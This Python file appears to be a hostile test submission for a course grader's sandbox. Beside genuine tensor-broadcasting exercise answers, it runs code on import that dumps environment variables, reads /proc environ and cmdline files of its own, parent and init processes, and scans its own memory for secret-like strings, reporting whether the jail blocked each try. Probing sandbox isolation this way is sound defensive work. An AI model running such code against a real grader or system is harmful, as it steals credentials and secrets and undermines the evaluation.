"""Hostile: reads the grader's environment through os.environ, /proc and its own memory."""
import ctypes
import os
import re
from pathlib import Path
import torch


def _try(what, attack):
    """Run one attack; say whether the jail refused it."""
    try:
        attack()
    except BaseException as e:  # noqa: B036 (the jail's refusal is what we look for)
        print(f"BLOCKED {what}: {type(e).__name__}: {e}")
    else:
        print(f"ATTACK-SUCCEEDED {what}")


def _course_root():
    """The course folder above this file (stat works even where reading does not)."""
    here = Path(__file__).resolve().parent
    for folder in [here, *here.parents]:
        if (folder / "course.yaml").exists():
            return folder
    return here.parent


def broadcast_shape(a, b):
    n = max(len(a), len(b))
    a = (1,) * (n - len(a)) + tuple(a)
    b = (1,) * (n - len(b)) + tuple(b)
    out = []
    for da, db in zip(a, b):
        if da == db or db == 1:
            out.append(da)
        elif da == 1:
            out.append(db)
        else:
            return None
    return tuple(out)


def can_broadcast(a, b):
    return broadcast_shape(a, b) is not None


def outer(x, y):
    return x[:, None] * y[None, :]


def center_rows(x):
    return x - x.mean(dim=1, keepdim=True)


def pairwise_sq_dists(x, y):
    diff = x[:, None, :] - y[None, :, :]
    return (diff ** 2).sum(dim=-1)


PARENT = os.getppid()
print("ENV", dict(os.environ))


def _show(path):
    with open(path, "rb") as f:
        print("LEAK", path, f.read()[:4000])


_try("/proc/self/environ", lambda: _show("/proc/self/environ"))
_try("the parent's environ", lambda: _show(f"/proc/{PARENT}/environ"))
_try("the parent's cmdline", lambda: _show(f"/proc/{PARENT}/cmdline"))
_try("init's environ", lambda: _show("/proc/1/environ"))


def _scan_memory():
    """Env-like strings left in our own memory (the jail is a fork of the grader)."""
    found = set()
    with open("/proc/self/maps") as f:
        regions = f.read().splitlines()
    for line in regions:
        span, perms = line.split()[:2]
        if not perms.startswith("rw"):
            continue
        low, high = (int(v, 16) for v in span.split("-"))
        if high - low > 1 << 28:
            continue
        data = ctypes.string_at(low, high - low)
        found.update(m.group(0) for m in re.finditer(rb"[A-Z][A-Z0-9_]{2,40}=[ -~]{4,200}", data))
    print("MEMORY", sorted(found)[:2000])


_scan_memory()
